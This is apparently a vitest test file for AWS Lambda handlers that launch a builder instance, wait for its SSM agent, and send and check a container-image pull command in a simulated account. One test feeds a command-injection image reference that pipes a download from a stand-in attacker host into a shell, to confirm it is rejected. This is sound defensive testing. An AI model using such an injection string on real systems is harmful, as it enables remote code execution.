import { CancelCommandCommand } from '@aws-sdk/client-ssm';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { handler as checkPull } from '../../functions/check-pull-command';
import { handler as checkSsm } from '../../functions/check-ssm-agent';
import { handler as launch } from '../../functions/launch-instance';
import { ssm } from '../../functions/lib/clients/ssm';
import { MAX_IMAGES } from '../../functions/lib/schemas';
import type { BuildTarget, LaunchedInstance } from '../../functions/lib/schemas';
import { COMMENT_MAX, handler as sendPull } from '../../functions/send-pull-command';
import type { SimulatedAccount } from '../../simulation/aws/account';
import { AwsServiceError, FAULTS } from '../../simulation/aws/core';
import { SSM_COMMAND_LIMITS, simulatedDigest } from '../../simulation/aws/ssm-commands';
import { longestReferences } from '../../simulation/max-input';
import { buildTarget, simulatedAws } from './ec2-fixtures';

const DIGEST_A = `sha256:${'a'.repeat(64)}`;

const build = (overrides: Partial<BuildTarget> = {}): BuildTarget =>
  buildTarget({
    platforms: ['linux/amd64', 'linux/arm64'],
    images: [
      { reference: 'public.ecr.aws/docker/library/python:3.12', digest: DIGEST_A },
      { reference: 'nginx' },
      { reference: '123456789012.dkr.ecr.us-west-2.amazonaws.com/team/model:v7' },
    ],
    ...overrides,
  });

/** Launches a builder in the simulated account and waits (virtual time) until its agent is Online. */
const onlineBuilder = async (target: BuildTarget): Promise<LaunchedInstance> => {
  const instance = await launch({ build: target });
  await vi.advanceTimersByTimeAsync(60_000);
  return instance;
};

const sendRequest = (account: SimulatedAccount) => account.core.callsOf('ssm', 'SendCommand').at(-1)!.input as Record<string, any>;

describe('check-ssm-agent', () => {
  let account: SimulatedAccount;
  let restore: () => void;
  beforeEach(() => ({ account, restore } = simulatedAws()));
  afterEach(() => restore());

  it('reports the agent offline until it registers, then Online', async () => {
    // Prepare
    const target = build();
    const instance = await launch({ build: target });
    // Act
    const early = await checkSsm({ build: target, instance });
    await vi.advanceTimersByTimeAsync(25_000);
    const stillWaiting = await checkSsm({ build: target, instance });
    await vi.advanceTimersByTimeAsync(30_000);
    const later = await checkSsm({ build: target, instance });
    // Assess
    expect(early).toMatchObject({ online: false, pingStatus: 'NotRegistered', nextCheckSeconds: 30 });
    expect(stillWaiting).toMatchObject({ online: false, nextCheckSeconds: 5 });
    expect(later).toEqual({ online: true, pingStatus: 'Online', checkedAt: new Date(Date.now()).toISOString(), nextCheckSeconds: 0 });
    const filter = account.core.callsOf('ssm', 'DescribeInstanceInformation')[0]!.input as Record<string, any>;
    expect(filter.Filters).toEqual([{ Key: 'InstanceIds', Values: [instance.instanceId] }]);
  });

  it('fails with InstanceLostError when the builder terminated while waiting', async () => {
    const target = build();
    const instance = await launch({ build: target });
    await vi.advanceTimersByTimeAsync(21_000);
    account.ssmCommands.agentNeverOnline(instance.instanceId);
    account.ec2.loseInstance(instance.instanceId);
    await expect(checkSsm({ build: target, instance })).rejects.toMatchObject({
      name: 'InstanceLostError',
      message: expect.stringContaining('is terminated'),
    });
  });

  it('fails with InstanceLostError when the builder vanished', async () => {
    const target = build();
    const instance = await launch({ build: target });
    account.ec2.loseInstance(instance.instanceId, { vanish: true });
    await expect(checkSsm({ build: target, instance })).rejects.toMatchObject({ name: 'InstanceLostError', message: expect.stringContaining('vanished') });
  });

  it('fails with SsmAgentTimeoutError naming the usual causes once past limits.ssmOnlineSeconds', async () => {
    // Prepare
    const target = build({ limits: { ...build().limits, ssmOnlineSeconds: 300 } });
    account.ssmCommands.agentNeverOnline();
    const instance = await launch({ build: target });
    await vi.advanceTimersByTimeAsync(290_000);
    await expect(checkSsm({ build: target, instance })).resolves.toMatchObject({ online: false });
    await vi.advanceTimersByTimeAsync(20_000);
    // Act / Assess
    const error = await checkSsm({ build: target, instance }).catch((e: Error) => e);
    expect(error).toMatchObject({ name: 'SsmAgentTimeoutError' });
    expect((error as Error).message).toMatch(/check-ssm-agent: .*300 s \(limits\.ssmOnlineSeconds raises it\)/);
    expect((error as Error).message).toContain('AmazonSSMManagedInstanceCore');
    expect((error as Error).message).toContain('VPC endpoints');
    expect((error as Error).message).toContain('cannot pull Bottlerocket\'s host containers');
  });

  it('times out with SsmAgentTimeoutError when the builder role cannot pull the control container from Bottlerocket\'s ECR', async () => {
    // Prepare: the role may not read Bottlerocket's repositories; host-ctr retries, the agent never starts.
    const target = build({ limits: { ...build().limits, ssmOnlineSeconds: 300 } });
    account.core.setAuthorizer((_principal, request) => ({
      allowed: !request.resources.some((resource) => resource.arn.startsWith('arn:aws:ecr:us-west-2:328549459982:repository/bottlerocket-')),
    }));
    const instance = await launch({ build: target });
    // Act
    await vi.advanceTimersByTimeAsync(310_000);
    const error = await checkSsm({ build: target, instance }).catch((e: Error) => e);
    // Assess
    expect(error).toMatchObject({ name: 'SsmAgentTimeoutError', message: expect.stringContaining('repository/bottlerocket-*') });
    expect(account.ssmCommands.host.boot(instance.instanceId)?.journal.join('\n')).toContain('host-containers@control: failed to pull image');
  });

  it('turns SSM throttling into the retryable TransientAwsError', async () => {
    const target = build();
    const instance = await launch({ build: target });
    account.core.inject(FAULTS.throttle('ssm', 'DescribeInstanceInformation'));
    await expect(checkSsm({ build: target, instance })).rejects.toMatchObject({ name: 'TransientAwsError' });
  });

  it('fails when the input lacks the instance', async () => {
    await expect(checkSsm({ build: build() })).rejects.toMatchObject({ name: 'InvalidInputError', message: expect.stringContaining('instance') });
  });
});

describe('send-pull-command', () => {
  let account: SimulatedAccount;
  let restore: () => void;
  beforeEach(() => ({ account, restore } = simulatedAws()));
  afterEach(() => restore());

  it('sends the generated script with the execution timeout, a delivery timeout and a short comment', async () => {
    // Prepare
    const target = build();
    const instance = await onlineBuilder(target);
    // Act
    const out = await sendPull({ build: target, instance });
    // Assess
    expect(out).toEqual({ commandId: expect.stringMatching(/^[0-9a-f-]{36}$/), sentAt: new Date(Date.now()).toISOString() });
    const request = sendRequest(account);
    expect(request.DocumentName).toBe('AWS-RunShellScript');
    expect(request.InstanceIds).toEqual([instance.instanceId]);
    expect(request.Comment).toBe('snapshot-factory ml-images x86_64 3 images');
    expect(request.TimeoutSeconds).toBe(600);
    expect(request.Parameters.executionTimeout).toEqual(['3600']);
    const script = (request.Parameters.commands as string[]).join('\n');
    expect(script).toContain("REFS=('public.ecr.aws/docker/library/python:3.12' 'docker.io/library/nginx:latest' '123456789012.dkr.ecr.us-west-2.amazonaws.com/team/model:v7')");
    expect(script).toContain(`DIGESTS=('${DIGEST_A}' '' '')`);
    expect(script).toContain('CREDS=(0 0 1)');
    expect(script).toContain("PLATFORMS=('linux/amd64' 'linux/arm64')");
    expect(script).toContain('CONCURRENCY=4');
    expect(script).toContain("HOST=('apiclient' 'exec' 'admin' 'sheltie')");
    expect(request.CloudWatchOutputConfig).toBeUndefined();
  });

  it('keeps every request within SSM limits for a hostile, long image list and recipe name', async () => {
    // Prepare: 40 images with ~250-character names, a 128-character recipe
    const long = (n: number): string => `registry-${n}.example.com:5000/${'a'.repeat(100)}/${'b-c_d.e'.repeat(16)}${n}:${'t'.repeat(100)}`;
    const target = build({ recipe: 'r'.repeat(128), images: Array.from({ length: 40 }, (_, n) => ({ reference: long(n) })) });
    const instance = await onlineBuilder(target);
    // Act
    await sendPull({ build: target, instance });
    // Assess
    const request = sendRequest(account);
    expect(request.Comment.length).toBeLessThanOrEqual(COMMENT_MAX);
    expect(request.Comment).toMatch(/^snapshot-factory r+…$/);
    expect(Buffer.byteLength(JSON.stringify(request.Parameters))).toBeLessThanOrEqual(SSM_COMMAND_LIMITS.maxParametersBytes);
    expect(account.core.callsOf('ssm', 'SendCommand')[0]!.error).toBeUndefined();
  });

  it('fails with InvalidInputError before sending when the image list cannot fit one command', async () => {
    const long = (n: number): string => `registry-${n}.example.com/${'x'.repeat(200)}:${'t'.repeat(120)}`;
    const target = build({ images: Array.from({ length: 300 }, (_, n) => ({ reference: long(n) })) });
    const instance = await onlineBuilder(target);
    await expect(sendPull({ build: target, instance })).rejects.toMatchObject({ name: 'InvalidInputError', message: expect.stringContaining('split') });
    expect(account.core.callsOf('ssm', 'SendCommand')).toHaveLength(0);
  });

  it('fails with InvalidImageReferenceError naming a hostile reference, and sends nothing', async () => {
    const target = build({ images: [{ reference: 'nginx' }, { reference: 'evil/$(curl attacker.example|sh):1' }] });
    const instance = await onlineBuilder(target);
    await expect(sendPull({ build: target, instance })).rejects.toMatchObject({
      name: 'InvalidImageReferenceError',
      message: expect.stringContaining('evil/$(curl attacker.example|sh):1'),
    });
    expect(account.core.callsOf('ssm', 'SendCommand')).toHaveLength(0);
  });

  it('adopts the command it already sent when a retry repeats the request', async () => {
    // Prepare
    const target = build();
    const instance = await onlineBuilder(target);
    const first = await sendPull({ build: target, instance });
    // Act
    const retried = await sendPull({ build: target, instance });
    // Assess
    expect(retried).toEqual(first);
    expect(account.core.callsOf('ssm', 'SendCommand')).toHaveLength(1);
    await vi.advanceTimersByTimeAsync(300_000);
    // After the first command succeeded, a repeat still adopts it: the images are on the volume.
    expect((await sendPull({ build: target, instance })).commandId).toBe(first.commandId);
  });

  it('sends a new command when the previous one on the builder failed', async () => {
    const target = build();
    const instance = await onlineBuilder(target);
    account.ssmCommands.nextCommandFails('boom');
    const failed = await sendPull({ build: target, instance });
    await vi.advanceTimersByTimeAsync(300_000);
    const again = await sendPull({ build: target, instance });
    expect(again.commandId).not.toBe(failed.commandId);
    expect(account.core.callsOf('ssm', 'SendCommand')).toHaveLength(2);
  });

  it('treats InvalidInstanceId right after the agent came Online as transient', async () => {
    const target = build();
    const instance = await onlineBuilder(target);
    account.core.inject({ service: 'ssm', operation: 'SendCommand', code: 'InvalidInstanceId', message: 'Instances not in a valid state for account' });
    await expect(sendPull({ build: target, instance })).rejects.toMatchObject({ name: 'TransientAwsError', message: expect.stringContaining('not ready') });
    await expect(sendPull({ build: target, instance })).resolves.toMatchObject({ commandId: expect.any(String) });
  });

  it('fails with InstanceLostError when SSM answers InvalidInstanceId because the builder is gone', async () => {
    const target = build();
    const instance = await onlineBuilder(target);
    account.ec2.loseInstance(instance.instanceId);
    account.core.inject({ service: 'ssm', operation: 'SendCommand', code: 'InvalidInstanceId', message: 'Instances not in a valid state for account' });
    await expect(sendPull({ build: target, instance })).rejects.toMatchObject({ name: 'InstanceLostError', message: expect.stringContaining('sending the pull command') });
  });

  it('fails with AccessDeniedError when IAM refuses SendCommand', async () => {
    const target = build();
    const instance = await onlineBuilder(target);
    account.core.inject(FAULTS.accessDenied('ssm', 'SendCommand'));
    await expect(sendPull({ build: target, instance })).rejects.toMatchObject({ name: 'AccessDeniedError' });
  });
});

describe('check-pull-command', () => {
  let account: SimulatedAccount;
  let restore: () => void;
  beforeEach(() => ({ account, restore } = simulatedAws()));
  afterEach(() => restore());

  const started = async (target: BuildTarget) => {
    const instance = await onlineBuilder(target);
    const pull = await sendPull({ build: target, instance });
    return { build: target, instance, pull };
  };

  it('waits through InvocationDoesNotExist and InProgress, then reports every image x platform', async () => {
    // Prepare
    const input = await started(build());
    // Act
    const immediately = await checkPull(input);
    await vi.advanceTimersByTimeAsync(5_000);
    const running = await checkPull(input);
    await vi.advanceTimersByTimeAsync(120_000);
    const finished = await checkPull(input);
    // Assess
    expect(immediately).toMatchObject({ done: false, status: 'Pending', pulled: 0 });
    expect(account.core.callsOf('ssm', 'GetCommandInvocation')[0]!.error).toBe('InvocationDoesNotExist');
    expect(running).toMatchObject({ done: false, status: 'InProgress' });
    // No output while it runs (SSM shows none): the next look is 15 % of the build's time since launch, at least 2 s.
    const sinceLaunchSeconds = (Date.now() - 120_000 - Date.parse(input.instance.launchedAt)) / 1000;
    expect(running.nextCheckSeconds).toBe(Math.max(2, Math.ceil(sinceLaunchSeconds * 0.15)));
    expect(finished.done).toBe(true);
    expect(finished.nextCheckSeconds).toBe(0);
    expect(finished.status).toBe('Success');
    // 3 images x 2 platforms, each verified against the plan's digest (a mismatch fails: see "the tag moved" below).
    expect(finished.pulled).toBe(6);
    expect(finished.images).toBe(3);
  });

  it('fails with InstanceLostError while the command runs on a builder that went away', async () => {
    const input = await started(build());
    await vi.advanceTimersByTimeAsync(5_000);
    account.ec2.loseInstance(input.instance.instanceId, { vanish: true });
    await expect(checkPull(input)).rejects.toMatchObject({ name: 'InstanceLostError', message: expect.stringContaining('vanished while pulling images') });
  });

  it('fails with PullFailedError naming the image the registry does not have', async () => {
    account.ssmCommands.imageMissing('nginx');
    const input = await started(build());
    await vi.advanceTimersByTimeAsync(120_000);
    const error = await checkPull(input).catch((e: Error) => e);
    expect(error).toMatchObject({ name: 'PullFailedError' });
    expect((error as Error).message).toMatch(/docker\.io\/library\/nginx:latest \(linux\/amd64\): .*not found/);
  });

  it('fails with ImageVerificationError naming the image and the platform the verification found incomplete', async () => {
    // Prepare: nginx's arm64 pull ends, but its layers are no longer all in the content store when the script checks.
    account.ssmCommands.imageUnverified('nginx', 'linux/arm64');
    const input = await started(build());
    await vi.advanceTimersByTimeAsync(120_000);
    // Act
    const error = await checkPull(input).catch((e: Error) => e);
    // Assess
    expect(error).toMatchObject({ name: 'ImageVerificationError' });
    expect((error as Error).message).toMatch(/docker\.io\/library\/nginx:latest \(linux\/arm64\): incomplete: the layer sha256:[0-9a-f]{64} is missing from the content store/);
    expect((error as Error).message).not.toContain('(linux/amd64)');
  });

  it('fails with PullFailedError carrying the real reason', async () => {
    account.ssmCommands.nextCommandFails('ctr: failed to copy: httpReadSeeker: failed open: unexpected status code 403 Forbidden');
    const input = await started(build());
    await vi.advanceTimersByTimeAsync(120_000);
    await expect(checkPull(input)).rejects.toMatchObject({ name: 'PullFailedError', message: expect.stringContaining('403 Forbidden') });
  });

  it('fails with DataVolumeTooSmallError saying how much is needed and which setting raises it', async () => {
    account.ssmCommands.dataVolumeTooSmall();
    const input = await started(build());
    await vi.advanceTimersByTimeAsync(120_000);
    const error = await checkPull(input).catch((e: Error) => e);
    expect(error).toMatchObject({ name: 'DataVolumeTooSmallError' });
    expect((error as Error).message).toMatch(/need about \d+ GiB, the data volume has \d+ GiB free of 50 GiB; raise dataVolume\.sizeGiB/);
  });

  it('fails with PullFailedError when the tag moved since prepare-build resolved it', async () => {
    account.ssmCommands.tagMoved('public.ecr.aws/docker/library/python:3.12');
    const input = await started(build());
    await vi.advanceTimersByTimeAsync(120_000);
    await expect(checkPull(input)).rejects.toMatchObject({ name: 'PullFailedError', message: expect.stringContaining('the tag moved') });
  });

  it('fails with PullCommandTimedOutError when SSM times the command out', async () => {
    account.ssmCommands.nextCommandTimesOut();
    const input = await started(build({ pull: { concurrency: 4, commandTimeoutSeconds: 900 } }));
    await vi.advanceTimersByTimeAsync(600_000);
    await expect(checkPull(input)).resolves.toMatchObject({ done: false, status: 'InProgress' });
    await vi.advanceTimersByTimeAsync(301_000);
    await expect(checkPull(input)).rejects.toMatchObject({ name: 'PullCommandTimedOutError', message: expect.stringContaining('900 s') });
  });

  it('fails with PullCommandTimedOutError when the command was cancelled', async () => {
    const input = await started(build());
    await vi.advanceTimersByTimeAsync(5_000);
    await ssm.send(new CancelCommandCommand({ CommandId: input.pull.commandId }));
    await expect(checkPull(input)).rejects.toMatchObject({ name: 'PullCommandTimedOutError', message: expect.stringContaining('Cancelled') });
  });

  it('fails with PullTimeoutError once the command runs longer than limits.pullSeconds', async () => {
    account.ssmCommands.neverFinish();
    const input = await started(build({ limits: { ...build().limits, pullSeconds: 1200 } }));
    await vi.advanceTimersByTimeAsync(1_190_000);
    await expect(checkPull(input)).resolves.toMatchObject({ done: false });
    await vi.advanceTimersByTimeAsync(20_000);
    await expect(checkPull(input)).rejects.toMatchObject({
      name: 'PullTimeoutError',
      message: expect.stringMatching(/still InProgress \d+ s after it was sent; the limit is 1200 s \(limits\.pullSeconds raises it\)/),
    });
  });

  it('fails with PullFailedError when a requested image is missing from a complete report', async () => {
    const input = await started(build());
    await vi.advanceTimersByTimeAsync(120_000);
    const real = account.core.handle.bind(account.core);
    vi.spyOn(account.core, 'handle').mockImplementation(async (service, operation, request) => {
      const out = (await real(service, operation, request)) as Record<string, string>;
      if (operation !== 'GetCommandInvocation') return out;
      // The script "forgot" nginx on arm64 and counts one pull less, yet claims no failure: a report we must not trust.
      const nginx = input.build.images.findIndex((image) => image.reference === 'nginx');
      const arm64 = input.build.platforms.indexOf('linux/arm64');
      const stdout = out
        .StandardOutputContent!.split('\n')
        .filter((l) => !l.startsWith(`SNAPSHOT_FACTORY_IMAGE\t${nginx}\t${arm64}\t`))
        .map((l) => l.replace(/^SNAPSHOT_FACTORY_SUMMARY\t6\t6\t0$/, 'SNAPSHOT_FACTORY_SUMMARY\t6\t5\t0'))
        .join('\n');
      return { ...out, StandardOutputContent: stdout };
    });
    await expect(checkPull(input)).rejects.toMatchObject({
      name: 'PullFailedError',
      message: expect.stringContaining('nginx (linux/arm64) is missing from the report'),
    });
  });

  it('lists every pull of the largest build (the longest references, both platforms) and counts them exactly', async () => {
    // Prepare: MAX_IMAGES references of 384 characters, each resolved, x 2 platforms.
    const images = longestReferences({ pinned: false }).map((reference) => ({ reference, digest: simulatedDigest(reference) }));
    const input = await started(build({ images }));
    await vi.advanceTimersByTimeAsync(10_000_000);
    // Act
    const out = await checkPull(input);
    // Assess
    const invocation = (await account.core.handle('ssm', 'GetCommandInvocation', { CommandId: input.pull.commandId, InstanceId: input.instance.instanceId })) as Record<string, string>;
    const stdout = invocation.StandardOutputContent!;
    expect(stdout.length).toBeLessThan(SSM_COMMAND_LIMITS.stdoutChars / 2);
    expect(stdout.trimEnd().split('\n').at(-1)).toBe('SNAPSHOT_FACTORY_END');
    expect(out).toEqual({ done: true, status: 'Success', pulled: MAX_IMAGES * 2, images: MAX_IMAGES, dataVolumeUsedBytes: expect.any(Number), checkedAt: expect.any(String), nextCheckSeconds: 0 });
    expect(out.dataVolumeUsedBytes).toBeGreaterThan(0);
  });

  it('fails when SSM cut the report short, counting only the pulls it lists', async () => {
    // Prepare: the invocation's stdout loses its last lines (end marker included), as a 24,000-character cut would.
    const input = await started(build());
    await vi.advanceTimersByTimeAsync(120_000);
    const real = account.core.handle.bind(account.core);
    vi.spyOn(account.core, 'handle').mockImplementation(async (service, operation, request) => {
      const out = (await real(service, operation, request)) as Record<string, string>;
      if (operation !== 'GetCommandInvocation') return out;
      return { ...out, StandardOutputContent: out.StandardOutputContent!.split('\n').slice(0, 5).join('\n') };
    });
    // Act
    const error = await checkPull(input).catch((e: Error) => e);
    // Assess: the summary says 6 succeeded; after it and the VOLUME line the cut leaves 2 whole lines, and nothing is counted on the summary's word.
    expect(error).toMatchObject({ name: 'PullFailedError' });
    expect((error as Error).message).toContain('the report is incomplete (SSM returns at most 24,000 characters of stdout): it lists 2 of the 6 successful pulls');
  });

  it('fails with the failure list flagged incomplete when long reasons overflow stdout', async () => {
    // Prepare: 100 images fail with 400-character reasons: their lines exceed 24,000 characters.
    const images = longestReferences({ pinned: false }).map((reference) => ({ reference, digest: simulatedDigest(reference) }));
    for (const { reference } of images) account.ssmCommands.imageMissing(reference);
    const input = await started(build({ images }));
    await vi.advanceTimersByTimeAsync(10_000_000);
    // Act
    const error = await checkPull(input).catch((e: Error) => e);
    // Assess
    expect(error).toMatchObject({ name: 'PullFailedError' });
    expect((error as Error).message).toMatch(/the failure list is incomplete: SSM returns at most 24,000 characters of stdout; \d+ of 200 failed pulls listed/);
  });

  it('fails when SSM answers InvocationDoesNotExist long after sending', async () => {
    const input = await started(build());
    account.core.register('ssm', {
      GetCommandInvocation: () => {
        throw new AwsServiceError('InvocationDoesNotExist', 'no such invocation');
      },
    });
    await vi.advanceTimersByTimeAsync(61_000);
    await expect(checkPull(input)).rejects.toMatchObject({ name: 'AwsRequestError', message: expect.stringContaining('InvocationDoesNotExist') });
  });
});
